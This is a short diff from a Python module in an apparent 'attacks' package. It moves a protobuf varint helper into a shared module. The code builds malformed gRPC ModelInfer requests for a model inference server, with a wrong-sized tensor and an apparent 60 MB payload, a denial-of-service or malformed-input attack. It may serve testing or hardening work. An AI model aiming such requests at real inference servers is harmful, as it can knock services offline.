@@ -7,26 +7,18 @@ from functools import cache
 
 import grpc
 
-from attacks.attacker import HOST, Attack, Pace, Ports, connected
+from attacks.attacker import HOST, Attack, Pace, Ports, connected, varint
 
 _INFER = "/inference.GRPCInferenceService/ModelInfer"
 _BIG = 60 << 20
-
-
-def _varint(value: int) -> bytes:
-    out = b""
-    while value > 127:
-        out += bytes([value & 127 | 128])
-        value >>= 7
-    return out + bytes([value])
 
 
 @cache
 def _message(model: bytes, size: int) -> bytes:
     """A tensor of a wrong size."""
     tensor = b"\x0a\x01x\x12\x05UINT8\x1a\x02\x01\x05"
-    start = b"\x0a" + _varint(len(model)) + model + b"\x2a" + _varint(len(tensor)) + tensor
-    return start + b"\x3a" + _varint(size) + bytes(size)
+    start = b"\x0a" + varint(len(model)) + model + b"\x2a" + varint(len(tensor)) + tensor
+    return start + b"\x3a" + varint(size) + bytes(size)
 
 
 @contextlib.contextmanager
